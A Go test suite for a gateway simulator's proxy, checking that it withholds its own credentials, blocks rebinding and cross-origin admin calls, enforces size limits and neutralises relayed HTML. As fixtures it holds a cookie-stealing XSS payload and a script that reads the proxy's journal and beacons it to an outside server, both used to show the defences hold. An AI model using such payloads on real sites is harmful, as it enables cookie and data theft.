package proxy_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/gwdmi/gwtools/gatewayapi/device"
	"github.com/gwdmi/gwtools/gatewayapi/fleet"
	"github.com/gwdmi/gwtools/simulator/cassette"
	"github.com/gwdmi/gwtools/simulator/proxy"
	"github.com/gwdmi/gwtools/simulator/simtest"
)

// seen is what an upstream was sent, for the tests that check what the
// proxy passes on.
type seen struct {
	mu      sync.Mutex
	headers []http.Header
	paths   []string
}

func (s *seen) add(r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.headers = append(s.headers, r.Header.Clone())
	s.paths = append(s.paths, r.Method+" "+r.URL.Path)
}

func do(t *testing.T, method, url, ct, body string, h map[string]string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	if ct != "" {
		req.Header.Set("Content-Type", ct)
	}
	for k, v := range h {
		req.Header.Set(k, v)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

// TestProxyKeepsItsOwnSecrets: the proxy's admin token and session cookie
// never reach the upstream, on an operation's path or any other (the
// app's own Authorization and cookies do); an upstream's Set-Cookie never
// reaches the browser (it would be set on the proxy's origin, where the
// live page's session lives); /_sim/ is never passed on, its CORS
// pre-flight is answered by the proxy without allowing any origin.
func TestProxyKeepsItsOwnSecrets(t *testing.T) {
	const token = "proxy-admin-token-7"
	var got seen
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.add(r)
		io.Copy(io.Discard, r.Body)
		http.SetCookie(w, &http.Cookie{Name: proxy.SessionCookie, Value: "fixated", Path: "/"})
		w.Header().Add("Set-Cookie", "tracker=1; Path=/")
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"status":"success"}`)
	}))
	t.Cleanup(up.Close)
	p := start(t, proxy.Config{Upstream: up.URL, Fleet: fleet.Demo(), AdminToken: token})
	res, _ := do(t, "POST", p.URL()+"/_sim/session", "application/json", `{"token":"`+token+`"}`, nil)
	var session string
	for _, c := range res.Cookies() {
		if c.Name == proxy.SessionCookie {
			session = c.Value
		}
	}
	if session == "" {
		t.Fatalf("no session cookie: %d", res.StatusCode)
	}
	app := demoClient(t, p.URL())
	body := string(simtest.Body(device.JSON, app.Command(simtest.SN('a', 1), "Light Dimmer", simtest.S("dimming", "5"))))
	for _, path := range []string{device.SendCommand.Path(), "/anything/else", "/"} {
		for _, auth := range []string{"Bearer " + token, "Bearer the-apps-own"} {
			res, _ := do(t, "POST", p.URL()+path, "application/json", body, map[string]string{"Authorization": auth,
				"Cookie": "app=1; " + proxy.SessionCookie + "=" + session + "; other=2"})
			if sc := res.Header.Values("Set-Cookie"); len(sc) != 0 {
				t.Errorf("%s: the upstream's Set-Cookie was relayed: %q", path, sc)
			}
		}
	}
	got.mu.Lock()
	defer got.mu.Unlock()
	if len(got.headers) != 6 {
		t.Fatalf("the upstream got %d requests: %v", len(got.headers), got.paths)
	}
	for i, h := range got.headers {
		all := strings.Join(h.Values("Authorization"), " ") + " " + strings.Join(h.Values("Cookie"), " ")
		if strings.Contains(all, token) || strings.Contains(all, session) || strings.Contains(all, proxy.SessionCookie) {
			t.Errorf("%s: the proxy's own credentials went upstream: %v", got.paths[i], h)
		}
		if c := h.Get("Cookie"); c != "app=1; other=2" {
			t.Errorf("%s: the app's cookies were not passed on as they were: %q", got.paths[i], c)
		}
		if i%2 == 1 && h.Get("Authorization") != "Bearer the-apps-own" {
			t.Errorf("%s: the app's own Authorization was not passed on: %v", got.paths[i], h)
		}
	}
	n := len(got.headers)
	got.mu.Unlock()
	res, _ = do(t, "OPTIONS", p.URL()+"/_sim/clients", "", "", map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "DELETE"})
	if res.StatusCode != http.StatusNoContent || res.Header.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("pre-flight of /_sim/clients: %d %v", res.StatusCode, res.Header)
	}
	if res, _ := do(t, "GET", p.URL()+"/_sim/not-a-call", "", "", nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("GET /_sim/not-a-call: %d, want the proxy's own 404", res.StatusCode)
	}
	got.mu.Lock()
	if len(got.headers) != n {
		t.Errorf("/_sim/ was passed on: %v", got.paths[n:])
	}
}

// TestProxyAdminRefusesOtherSites: the live page's admin calls, like gwsim
// serve's, refuse a rebinding Host (421), a change from another origin or
// by a form (403/415), and a change with the session cookie but no Origin.
// Sign-in attempts are limited per client.
func TestProxyAdminRefusesOtherSites(t *testing.T) {
	const token = "proxy-admin-token-8"
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	t.Cleanup(up.Close)
	p := start(t, proxy.Config{Upstream: up.URL, AdminToken: token})
	res, _ := do(t, "POST", p.URL()+"/_sim/session", "application/json", `{"token":"`+token+`"}`, nil)
	cookie := ""
	for _, c := range res.Cookies() {
		if c.Name == proxy.SessionCookie {
			cookie = c.Name + "=" + c.Value
		}
	}
	req, _ := http.NewRequest("GET", p.URL()+"/_sim/journal", nil)
	req.Host = "attacker.example"
	req.Header.Set("Cookie", cookie)
	if res, err := http.DefaultClient.Do(req); err != nil || res.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("rebinding Host: %v %v, want 421", res.StatusCode, err)
	}
	for _, tc := range []struct {
		name, ct string
		h        map[string]string
		status   int
	}{
		{"another origin", "application/json", map[string]string{"Cookie": cookie, "Origin": "http://127.0.0.1:1"}, 403},
		{"a text/plain form", "text/plain", map[string]string{"Cookie": cookie}, 415},
		{"the cookie without Origin", "", map[string]string{"Cookie": cookie}, 401},
		{"the cookie from the page's origin", "", map[string]string{"Cookie": cookie, "Origin": p.URL()}, 200},
	} {
		body := ""
		if tc.ct != "" {
			body = "{}"
		}
		if res, b := do(t, "DELETE", p.URL()+"/_sim/clients", tc.ct, body, tc.h); res.StatusCode != tc.status {
			t.Errorf("DELETE /_sim/clients, %s: %d %s, want %d", tc.name, res.StatusCode, b, tc.status)
		}
	}
	var last int
	for range 12 {
		res, _ := do(t, "POST", p.URL()+"/_sim/session", "application/json", `{"token":"guess"}`, nil)
		last = res.StatusCode
	}
	if last != http.StatusTooManyRequests {
		t.Errorf("the 12th sign-in attempt: %d, want 429", last)
	}
}

// TestProxyOverLimitIsSaid: a request body or an upstream answer over the
// proxy's limit is never cut short and passed on as if whole: 413 for the
// request (nothing reaches the upstream), 502 for the answer, each with a
// message saying so, on an operation and on any other path.
func TestProxyOverLimitIsSaid(t *testing.T) {
	var calls atomic.Int32
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"status":"success","pad":"`+strings.Repeat("x", 3000)+`"}`)
	}))
	t.Cleanup(up.Close)
	p := start(t, proxy.Config{Upstream: up.URL, MaxBody: 2048})
	for _, path := range []string{device.SendCommand.Path(), "/other"} {
		res, body := do(t, "POST", p.URL()+path, "application/json", `{"x":"`+strings.Repeat("y", 4000)+`"}`, nil)
		if res.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "2048") {
			t.Errorf("%s, a 4 KB body: %d %s, want 413 naming the limit", path, res.StatusCode, body)
		}
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("over-limit requests reached the upstream %d times", n)
	}
	for _, path := range []string{device.SendCommand.Path(), "/other"} {
		res, body := do(t, "POST", p.URL()+path, "application/json", `{}`, nil)
		if res.StatusCode != http.StatusBadGateway || !strings.Contains(body, "larger than the 2048 bytes") {
			t.Errorf("%s, a 3 KB answer: %d %.200s, want 502 saying it is too large", path, res.StatusCode, body)
		}
	}
}

// TestCassetteNeverKeepsActiveContent: an upstream's HTML answer recorded
// by the proxy is written as text/plain, and a cassette entry that says
// text/html (written by hand) is replayed as text/plain with nosniff and
// a CSP sandbox.
func TestCassetteNeverKeepsActiveContent(t *testing.T) {
	dir := t.TempDir()
	w, err := cassette.NewWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusNotFound)
		io.WriteString(w, `<script>alert(document.cookie)</script>`)
	}))
	t.Cleanup(up.Close)
	p := start(t, proxy.Config{Upstream: up.URL, Record: w, Fleet: fleet.Demo()})
	app := demoClient(t, p.URL())
	do(t, "POST", p.URL()+device.SendCommand.Path(), "application/json", string(simtest.Body(device.JSON, app.Command(simtest.SN('a', 1), "Light Dimmer", simtest.S("dimming", "6")))), nil)
	files, _ := filepath.Glob(filepath.Join(dir, "*.json"))
	if len(files) != 1 {
		t.Fatalf("recorded %d entries", len(files))
	}
	b, _ := os.ReadFile(files[0])
	if strings.Contains(string(b), "text/html") || !strings.Contains(string(b), "text/plain") {
		t.Errorf("the recorded HTML answer keeps its type: %s", b)
	}
	// A hand-written entry that says text/html.
	os.WriteFile(files[0], []byte(strings.Replace(string(b), "text/plain; charset=utf-8", "text/html", 1)), 0o644)
	pl, err := cassette.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(pl.Wrap(http.NotFoundHandler()))
	t.Cleanup(srv.Close)
	c := demoClient(t, srv.URL)
	res, body := do(t, "POST", srv.URL+device.SendCommand.Path(), "application/json", string(simtest.Body(device.JSON, c.Command(simtest.SN('a', 1), "Light Dimmer", simtest.S("dimming", "6")))), nil)
	if ct := res.Header.Get("Content-Type"); res.Header.Get("X-Gwsim-Replayed") != "true" || ct != "text/plain; charset=utf-8" ||
		res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(res.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("replayed: %d %v %s", res.StatusCode, res.Header, body)
	}
}

// TestBrowserRelayedPageRunsNoScript: an upstream answers an HTML page with
// a script that would read the proxy's live page data and phone home.
// Opened through the proxy in Chromium, the page is shown (its text is
// there) but its script does not run: the beacon never arrives, and the
// page is in an opaque origin (CSP sandbox), so it could not have read
// the proxy's /_sim/ even if it had.
func TestBrowserRelayedPageRunsNoScript(t *testing.T) {
	simtest.NeedTool(t, simtest.ChromiumPath, "apt-get install -y chromium")
	var beacons atomic.Int32
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { beacons.Add(1) }))
	t.Cleanup(home.Close)
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<!doctype html><title>upstream page</title><p id="text">upstream text</p>
<script>document.body.dataset.ran = "yes"; fetch("/_sim/journal").then(r => r.text()).then(t => fetch("`+home.URL+`/?" + encodeURIComponent(t)));
new Image().src = "`+home.URL+`/img";</script>
<img src="x" onerror="document.body.dataset.ran = 'yes'; new Image().src = '`+home.URL+`/onerror'">`)
	}))
	t.Cleanup(up.Close)
	p := start(t, proxy.Config{Upstream: up.URL})
	ctx := simtest.Chromium(t, 1000, 800)
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(p.URL()+"/some/page"), chromedp.WaitVisible(chromedp.CSS("#text"))); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second) // time for a script, had it run, to call home
	ran, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.dataset.ran || ""`))
	if err != nil {
		t.Fatal(err)
	}
	origin, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`self.origin`))
	if ran != "" || beacons.Load() != 0 {
		t.Errorf("the relayed page's script ran on the proxy's origin (ran %q, %d beacons)", ran, beacons.Load())
	}
	if origin != "null" {
		t.Errorf("the relayed page has the origin %q, want null (sandboxed)", origin)
	}
}
